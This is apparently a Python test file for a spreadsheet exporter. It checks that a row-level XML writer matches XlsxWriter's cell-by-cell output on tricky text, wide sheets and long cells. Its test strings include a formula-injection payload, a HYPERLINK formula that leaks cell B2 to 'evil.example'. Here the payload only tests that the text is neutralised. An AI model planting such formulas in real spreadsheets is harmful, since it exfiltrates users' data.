"""A row written as XML (RowSheet.write_xml_row) is the row XlsxWriter writes cell by cell."""

import datetime as dt
import io
import zipfile

from xlsxwriter import Workbook

from exports import spreadsheets
from exports.xlsx import QUOTED, RowSheet, inline_text, number, write_text

TEXTS = [
    "Kiểm tra hàng nhập lậu",
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "-5 ngày",
    "\tTab đầu dòng",
    "a < b & c > d",
    "Dòng một\nDòng hai",
    " khoảng trắng ở hai đầu ",
    "điều khiển \x01 và _x0041_",
    "chỉ _x0041_ và _xyz",
    "xuống dòng ở cuối\n",
    'dấu "ngoặc kép"',
    "không phải ký tự \ufffe và \uffff",  # XML forbids them: written as _xFFFE_, _xFFFF_
    "dài quá một ô " + "x" * 40_000,  # cut at Excel's 32,767
    "😀" * 20_000,  # two UTF-16 units each: cut at 16,383 of them
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read("xl/worksheets/sheet1.xml").decode()


def _workbook(fill) -> bytes:
    out = io.BytesIO()
    workbook = Workbook(out, {"constant_memory": True})
    formats = {
        "quoted": workbook.add_format(QUOTED),
        "date": workbook.add_format({"num_format": "DD/MM/YYYY"}),
    }
    ws = workbook.add_worksheet("Danh sách", worksheet_class=RowSheet)
    fill(ws, formats)
    workbook.close()
    return out.getvalue()


def test_a_row_of_xml_is_what_xlsxwriter_writes_cell_by_cell():
    day = dt.date(2024, 2, 29)

    def by_cell(ws, formats):
        for row, text in enumerate(TEXTS, start=1):
            write_text(ws, row, 0, text, formats["quoted"])
            ws.write_number(row, 1, row * 1.5)
            ws.write_datetime(row, 2, day, formats["date"])

    def by_row(ws, formats):
        class Indexes:
            def index(self, kind):
                return formats[kind]._get_xf_index()

        for row, text in enumerate(TEXTS, start=1):
            cells = inline_text(f"A{row + 1}", text, Indexes())
            cells += number(f"B{row + 1}", row * 1.5, None)
            cells += number(f"C{row + 1}", ws._convert_date_time(day), Indexes().index("date"))
            ws.write_xml_row(row, 0, 2, cells)

    assert _sheet_xml(_workbook(by_row)) == _sheet_xml(_workbook(by_cell))


def _by_xlsxwriter(ws, formats, row, values, kinds):
    """`values` as XlsxWriter's own write_ methods write them, cell by cell (empty cells left
    out): what `_Writer.row` writes in one piece."""
    for col, (value, kind) in enumerate(zip(values, kinds, strict=True)):
        if value is None or value == "":
            continue
        if isinstance(value, str):
            write_text(ws, row, col, value, formats["quoted"])
        elif isinstance(value, dt.date):
            ws.write_datetime(row, col, value, formats[kind])
        else:
            ws.write_number(row, col, value, formats.get(kind))


def _lists_sheet(rows, kinds, *, by_row: bool) -> str:
    """The sheet XML of `rows` written by the lists' writer (`_Writer.row`) or by XlsxWriter,
    with the writer's formats either way (so that both number them alike)."""
    out = io.BytesIO()
    workbook = Workbook(out, {"constant_memory": True, "remove_timezone": True})
    ws = workbook.add_worksheet("Danh sách", worksheet_class=RowSheet)
    writer = spreadsheets._Writer(workbook, ws)
    for row, values in enumerate(rows, start=1):
        if by_row:
            writer.row(row, values, kinds)
        else:
            _by_xlsxwriter(ws, writer.formats, row, values, kinds)
    workbook.close()
    return _sheet_xml(out.getvalue())


def test_the_lists_writer_keeps_repeated_texts_and_still_writes_what_xlsxwriter_writes(
    monkeypatch,
):
    """`_Writer.row` keeps each short text's cell for the next time it comes (a directive, an
    agency, a state repeat down a column), starting again when it holds KEPT_TEXTS: every row
    is still the row XlsxWriter writes cell by cell."""
    monkeypatch.setattr(spreadsheets, "KEPT_TEXTS", 3)  # so that it starts again, often
    day = dt.date(2024, 2, 29)
    kinds = ["text", "text", "int", "date"]
    rows = [
        [text, TEXTS[(n * 7) % len(TEXTS)], n, day if n % 2 else None]
        for n, text in enumerate(TEXTS * 3 + TEXTS[::-1], start=1)
    ]
    by_row = _lists_sheet(rows, kinds, by_row=True)
    assert by_row == _lists_sheet(rows, kinds, by_row=False)
    assert by_row.count("<row ") == len(rows)


def test_the_lists_writer_writes_columns_past_z_as_xlsxwriter_does():
    """A sheet wider than A to Z: its cells go on to AA, AB… and past ZZ, a row full and a row
    that starts past Z with gaps."""
    width = 730  # A to ABB
    kinds = [("text", "int", "date")[col % 3] for col in range(width)]

    def value(col):
        if kinds[col] == "text":
            return f"ô {col}"
        return col if kinds[col] == "int" else dt.date(2024, 1, 1) + dt.timedelta(col)

    rows = [
        [value(col) for col in range(width)],
        [value(col) if col in (26, 27, 28, 701, 702, 729) else None for col in range(width)],
    ]
    by_row = _lists_sheet(rows, kinds, by_row=True)
    assert by_row == _lists_sheet(rows, kinds, by_row=False)
    assert '<c r="ABB2"' in by_row and '<c r="AA3"' in by_row and '<c r="ZZ3"' in by_row
